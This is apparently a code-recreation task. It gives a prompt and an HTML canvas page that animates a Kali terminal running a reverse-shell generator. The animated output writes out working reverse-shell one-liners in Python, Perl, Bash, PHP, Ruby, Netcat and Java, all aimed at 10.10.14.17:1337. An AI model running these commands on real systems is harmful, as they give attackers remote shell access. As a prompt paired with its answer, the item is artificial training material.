
Recreate the animation shown at these times as an HTML page with a canvas. Size 1186 by 472 pixels, loop 5450 ms.

```html
<!DOCTYPE html>
<html lang="en">
<head>
<meta charset="utf-8">
<title>Terminal</title>
<style>
html, body { margin: 0; width: 1186px; height: 472px; overflow: hidden; }
body {
  position: relative;
  background: linear-gradient(117deg, #010406 0, #020609 90px, #02090d 160px, #020c12 278px,
    #04121a 290px, #04121b 400px, #03131d 515px, #0a171f 555px, #0a171f 850px,
    #07161f 950px, #031520 1010px, #03141e);
}
div, canvas { position: absolute; }
.hatch {
  --fade: linear-gradient(117deg, #000a, #000 270px, #0000 310px, #0000 420px,
    #000 520px, #0000 570px, #0000 930px, #000 1000px, #0004);
  inset: 0;
  background: repeating-linear-gradient(127deg, #0000 0 3px, #0f283526 3px 5px);
  -webkit-mask-image: var(--fade);
  mask-image: var(--fade);
}
.edge { left: 0; top: 0; width: 2px; height: 472px; background: #0a2a40; }
.floor { left: 0; bottom: 0; width: 1186px; height: 3px; background: #020b12; }
.emblem { left: 550px; top: 108px; width: 300px; height: 300px; border-radius: 50%; background: #262626; }
canvas { left: 0; top: 0; width: 1186px; height: 472px; }
</style>
</head>
<body>
<div class="hatch"></div>
<div class="emblem"></div>
<div class="floor"></div>
<div class="edge"></div>
<canvas id="terminal" width="1328" height="528"></canvas>
<script>
const LOOP = 5450, RUN = 430;
const BLINKS = [950, 1660, 2220, 2750, 3370, 3930, 4640, 5200];
const LEFT = 4, TOP = 1, CELL_W = 9, CELL_H = 18, ASCENT = 14;
const GREEN = "#0f0", RED = "#ef2929", BLUE = "#729fcf";
const USER = "demo@kali", PROMPT = USER + ":~# ";

const command = PROMPT + "python3 sheller.py -d 10.10.14.17 -p 1337";
const output = String.raw`[+] Python
python -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);s.connect(("10.10.14.17",1337));os.dup2(s.fileno(),0); os
.dup2(s.fileno(),1); os.dup2(s.fileno(),2);p=subprocess.call(["/bin/sh","-i"]);'

[+] Perl
perl -e 'use Socket;$i="10.10.14.17";$p=1337;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(
STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'

[+] Bash
bash -i >& /dev/tcp/10.10.14.17/1337 0>&1

[+] PHP
php -r '$sock=fsockopen(10.10.14.17,1337);exec("/bin/sh -i <&3 >&3 2>&3");'

[+] Ruby
ruby -rsocket -e'f=TCPSocket.open(10.10.14.17,1337).to_i;exec sprintf("/bin/sh -i <&%d >&%d 2>&%d",f,f,f)'

[+] Netcat
nc -e /bin/sh 10.10.14.17 1337

[+] Java
r = Runtime.getRuntime() p = r.exec(["/bin/bash","-c","exec 5<>/dev/tcp/10.10.14.17/1337;cat <&5 | while read line; do \$line 2>&5 >&5; done"] as S
tring[]) p.waitFor()
`.split("\n");

const canvas = document.getElementById("terminal");
const ctx = canvas.getContext("2d");
const start = performance.now();

function drawLine(line, row) {
  const isPrompt = line.startsWith(PROMPT);
  [...line].forEach((char, col) => {
    const inUser = isPrompt && col < USER.length;
    const inPath = isPrompt && col === USER.length + 1;
    ctx.font = `${inUser || inPath ? "bold " : ""}11pt "DejaVu Sans Mono", monospace`;
    ctx.fillStyle = inUser ? RED : inPath ? BLUE : GREEN;
    ctx.fillText(char, LEFT + col * CELL_W, TOP + row * CELL_H + ASCENT);
  });
}

function drawScreen(lines, cursorOn) {
  ctx.clearRect(0, 0, canvas.width, canvas.height);
  lines.forEach(drawLine);
  if (!cursorOn) return;
  const row = lines.length - 1;
  ctx.fillStyle = GREEN;
  ctx.fillRect(LEFT + lines[row].length * CELL_W, TOP + row * CELL_H, CELL_W, CELL_H);
}

function tick() {
  const t = (performance.now() - start) % LOOP;
  const lines = t < RUN ? [command] : [command, ...output, PROMPT];
  drawScreen(lines, BLINKS.filter(b => t >= b).length % 2 === 0);
  requestAnimationFrame(tick);
}
tick();
</script>
</body>
</html>
```
